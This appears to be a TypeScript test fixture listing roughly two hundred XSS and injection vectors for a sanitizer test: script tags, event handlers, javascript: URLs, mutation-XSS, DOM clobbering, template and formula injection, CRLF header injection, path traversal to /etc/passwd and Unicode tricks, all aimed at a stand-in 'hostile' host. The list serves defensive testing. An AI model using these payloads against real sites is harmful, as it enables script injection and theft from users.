/**
 * Ways to make a page run, load or show what it should not, one per line, written for these tests after the kinds that OWASP’s list, html5sec
 * and the tests of sanitizers know. Each would call `alert`, set the global `hostile`, or ask for an address with `hostile` in it.
 */
export const vectors: readonly string[] = String.raw`
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=/hostile.js></script>
<script src=//hostile.invalid/a.js></script>
<script type=module>hostile=1</script>
<script>hostile=1<!--</script>
<script/defer>alert(1)</script>
<script x=">">alert(1)</script>
<script>alert(1)//
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>hostile=1</script>
</style><script>alert(1)</script>
</noscript><script>hostile=1</script>
</template><img src=x onerror=alert(1)>
</xmp><svg onload=alert(1)>
</iframe><img src=x onerror=hostile=1>
--><script>alert(1)</script>
--!><img src=x onerror=alert(1)>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=hostile=1> -->
<?xml-stylesheet href="javascript:alert(1)"?><b>x</b>
<!DOCTYPE x [<!ENTITY y SYSTEM "/hostile.xml">]><b>&y;</b>
<!ENTITY % hostile SYSTEM "//hostile.invalid/x"> %hostile;
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='hostile=1'>
<img src=x:x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x"onerror="hostile=1">
<img src=/hostile.png>
<img srcset="/hostile.png 1x">
<img src=x onerror&equals;alert(1)>
<img src=x oneonerrorrror=alert(1) onerror=hostile=1>
<image src=x onerror=alert(1)>
<picture><source srcset=/hostile.avif><img src=x onerror=alert(1)></picture>
<svg onload=alert(1)>
<svg/onload=hostile=1//
<svg><script>alert(1)</script></svg>
<svg><script href=/hostile.js />
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=hostile=1 attributeName=x>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><image href=/hostile.svg />
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><table><style><img title="</style><img src onerror=hostile=1>"></style></table></desc></svg>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=hostile=1 src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><b title="</noframes><svg onload=hostile=1>"></noframes>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<table><tr><td><svg><desc><td></desc><style><a title="</style><img src onerror=alert(1)>"></style></svg></td></tr></table>
<table background=/hostile.png><tr><td background=//hostile.invalid/t.png>x</td></tr></table>
<select><option><style></option></select><img src=x onerror=alert(1)></style>
<select><script>hostile=1</script></select>
<select><iframe src=/hostile.html></select>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:hostile=1">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=javas&#99;ript:alert(1)>x</a>
<a href="&#x6a;avascript&colon;alert(1)">x</a>
<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>x</a>
<a href="vbscript:MsgBox(1)">x</a>
<a href=/ ping=/hostile>x</a>
<a href=/ onfocus=alert(1) autofocus tabindex=1>x</a>
<a style=position:fixed;inset:0 href=/hostile>x</a>
<base href=//hostile.invalid/>
<base href="javascript:/a/-alert(1)//"><a href=../a>x</a>
<link rel=stylesheet href=/hostile.css>
<link rel=preload as=script href=/hostile.js>
<link rel=prefetch href=//hostile.invalid/p>
<link rel=icon href=/hostile.ico>
<link rel=dns-prefetch href=//hostile.invalid>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content=0;/hostile.html>
<meta name=referrer content=unsafe-url><img src=/hostile.gif>
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>
<iframe src=/hostile.html></iframe>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)><frame src=/hostile.html></frameset>
<object data="javascript:alert(1)"></object>
<object data=/hostile.swf><param name=x value=y></object>
<embed src=/hostile.swf>
<embed src="javascript:alert(1)" type=text/html>
<applet code=hostile.class></applet>
<video src=/hostile.mp4 autoplay></video>
<video><source onerror=alert(1)></video>
<video poster=/hostile.jpg></video>
<audio src=x onerror=alert(1)></audio>
<audio src=/hostile.mp3 autoplay></audio>
<track src=/hostile.vtt default>
<input onfocus=alert(1) autofocus>
<input type=image src=/hostile.png>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<form id=documentElement><input name=attributes></form>
<form name=body><input name=getElementById></form>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<textarea autofocus onfocus=hostile=1></textarea>
<button onclick=alert(1) autofocus>x</button>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x</button>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<body background=/hostile.png>
<html onmouseover=alert(1)>
<bgsound src=/hostile.wav>
<plaintext>
<xmp><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<title><img src=x onerror=alert(1)></title>
<style>@import "/hostile.css";</style>
<style>*{background:url(/hostile.png)}</style>
<style>p{animation:x;@keyframes x{}}</style><p onanimationstart=alert(1)>
<div style="background:url(//hostile.invalid/b.png)">x</div>
<div style="behavior:url(/hostile.htc)">x</div>
<div style="width:expression(alert(1))">x</div>
<p style="-moz-binding:url(/hostile.xml#x)">x</p>
<b onmouseenter=alert(1) style=display:block;width:9999px;height:9999px>x</b>
<x onclick=alert(1)>x</x>
<x-y is=share-panel onfocus=alert(1) tabindex=1 autofocus>x</x-y>
<search-page><form onsubmit=alert(1)></form></search-page>
<share-panel data-quote="<img src=x onerror=alert(1)>"></share-panel>
<verbatim-block data-kind="quote" data-id="x"></verbatim-block>
<verbatim-block data-kind="claims" data-id=""></verbatim-block><script>alert(1)</script>
<article data-pagefind-body><script>alert(1)</script></article>
<mark class="article-quote" id="q-hostile">x</mark>
<img name=cookie><img name=getElementById><img id=body>
<a id=location href=/hostile><a id=location name=href href=/hostile>
<form id=forms><input id=length></form>
<object id=scripts name=currentScript data=/hostile></object>
<embed name=head><embed name=body>
<slot onslotchange=alert(1)></slot>
<portal src=/hostile.html></portal>
<fencedframe src=/hostile.html></fencedframe>
<canvas id=hostile></canvas>
<script>Object.prototype.hostile=1</script>
__proto__[hostile]=1 constructor.prototype.hostile=1
"><script>alert(1)</script>
"><img src=x onerror=alert(1)>
" onmouseover="alert(1)" x="
" autofocus onfocus=alert(1) x="
' onmouseover='alert(1)' x='
'><svg onload=alert(1)>
'"--></style></script><script>alert(1)</script>
\"><script>alert(1)</script>
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&lt/script&gt&ltscript&gtalert(1)&lt/script&gt
javascript:alert(1)
javascript://%0aalert(1)
JaVaScRiPt:alert(1)//"'><svg/onload=alert(1)>
data:text/html,<script>alert(1)</script>
;alert(1)//
");alert(1);//
'-alert(1)-'
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
<%= alert(1) %>
<?php system('hostile'); ?>
{% include "/etc/passwd" %} {{< hostile >}}
import x from '/hostile.js'; export default alert(1)
{alert(1)} <Hostile set:html="x" client:load />
#set($x=1) *{hostile} @{hostile}
=HYPERLINK("//hostile.invalid","x")
@SUM(1+1)*cmd|' /C hostile'!A0
][x]: javascript:alert(1) "x"
![x](/hostile.png) [x](javascript:alert(1))
x :::box{onclick=alert(1)} ::chart{#x onload=alert(1)}
[^hostile]: <img src=x onerror=alert(1)> [@hostile]
Set-Cookie: hostile=1%0d%0aLocation: //hostile.invalid
../../../../hostile/etc/passwd
`
  .trim()
  .split('\n')
  .map((line) => line.replace('\\${', '${'))
  .concat(
    // Line separators that end a string of older scripts, directions that turn text about, signs that show nothing.
    '\u2028alert(1)\u2029<img src=x onerror=alert(1)>',
    'a\u202e)1(trela\u202c <b onclick=alert(1)>x</b>',
    'a\u2066<img src=x onerror=alert(1)>\u2069',
    '<\u200bscript>alert(1)</\u200bscript>',
    '<scr\u0131pt>alert(1)</scr\u0131pt>',
    '<img\u00a0src=x\u00a0onerror=alert(1)>',
  );
